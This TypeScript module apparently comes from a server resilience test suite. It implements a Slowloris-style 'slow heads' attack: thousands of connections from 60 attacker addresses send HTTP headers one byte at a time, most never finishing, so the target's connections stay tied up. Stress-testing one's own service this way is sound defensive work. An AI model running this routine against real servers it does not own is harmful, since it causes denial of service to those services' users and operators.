/** Heads of requests that come byte by byte: some end after a while and are answered, most never end. */
import { type Attack, attackerAddress } from "./attack.ts"
import { emptyTally, keepOpen } from "./sockets.ts"

const connections = 3_000
const tinyConnections = 60
const addresses = 60
/** Every so many connections one has a head that ends, and then another. */
const endingEvery = 10
const byteMillis = 500
const tinyByteMillis = 5
/** What an endless head begins with: it is held until the end comes. */
const startBytes = 3_000

/** Of many addresses. */
export const slowHeads: Attack = {
  finding: "slow heads",
  asks: `${connections} connections of ${addresses} addresses whose heads come byte by byte`,
  strike: async (target) => {
    const [tally, counted] = [emptyTally(), { bytes: 0 }]
    const short = `GET /healthz HTTP/1.1\r\nhost: ${target.url.host}\r\n\r\n`
    const endless = `GET /siege HTTP/1.1\r\nhost: ${target.url.host}\r\nx-siege: ${"x".repeat(startBytes)}`
    const from = (at: number): string => attackerAddress(at % addresses)
    const millis = target.tiny ? tinyByteMillis : byteMillis
    await keepOpen(target, target.tiny ? tinyConnections : connections, from, tally, (socket, at) => {
      let sent = 0
      const isEnding = at % endingEvery === 0
      if (!isEnding) socket.write(endless)
      const timer = setInterval(() => {
        socket.write(isEnding ? short[sent++ % short.length]! : "x")
        counted.bytes++
      }, millis)
      socket.on("close", () => clearInterval(timer))
    })
    return { ...tally, ...counted }
  }
}
